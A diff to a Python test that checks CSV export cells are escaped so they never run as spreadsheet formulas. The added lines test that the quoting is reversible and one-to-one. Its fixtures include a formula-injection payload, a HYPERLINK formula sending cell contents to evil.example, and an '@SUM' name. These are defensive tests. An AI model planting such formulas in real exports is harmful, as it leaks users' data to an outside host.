@@ -133,6 +133,11 @@ def test_no_cell_we_write_runs_as_a_formula(tmp_path):
         assert cells.safe_cell(hostile) == "'" + hostile
     for harmless in ("0.9871", "-3", "+1.5", "1e-3", "-", "alice", "", "Participant 12"):
         assert cells.safe_cell(harmless) == harmless
+    # One to one, so a file read back (marks.csv) gives each cell back and two texts never
+    # share a cell: a text already quoted before a formula gets one more quote.
+    texts = ("=1+1", "'=1+1", "''=1+1", "'", "'alice", "-3", "'-3", "@x", " =1")
+    assert len({cells.safe_cell(t) for t in texts}) == len(texts)
+    assert all(cells.plain_cell(cells.safe_cell(t)) == t for t in texts)
     forged = _stored("-mallory", _report("error", error='=HYPERLINK("http://evil.example/?"&A2&B2,"x")'))
     forged = forged.model_copy(update={"name": "@SUM(1+1)"})
     exports.write_gradebook(tmp_path / "gradebook.csv", [*RESULTS, forged])
